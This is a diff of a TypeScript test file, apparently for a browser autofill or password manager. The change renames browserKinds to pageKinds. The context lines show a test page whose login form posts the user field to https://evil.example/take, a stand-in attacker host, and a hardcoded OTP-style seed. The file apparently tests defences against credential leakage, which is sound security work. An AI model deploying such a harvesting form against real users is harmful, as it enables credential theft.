@@ -3,7 +3,7 @@ import { type Bench, loginValues, loot, openBench } from '../attacks/bench.ts';
 import { loginForm, page } from '../attacks/pages/html.ts';
 import type { Tab } from '../browser/surface.ts';
 import { until } from '../browser/until.ts';
-import { browserKinds, type LinkedSession } from './desk.ts';
+import { type LinkedSession, pageKinds } from './desk.ts';
 import { person } from './person.ts';
 
 const seed = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ';
@@ -22,7 +22,7 @@ const board = page(`
   <form method="post" action="https://evil.example/take"><p><input id="away" name="user"></p><button>Go</button></form>
   <p><input id="shown" name="password" type="text"></p>`);
 
-describe.each(browserKinds)('one field by a right click, in %s', (kind) => {
+describe.each(pageKinds)('one field by a right click, in %s', (kind) => {
   let bench: Bench;
   let linked: LinkedSession;
   beforeAll(async () => {
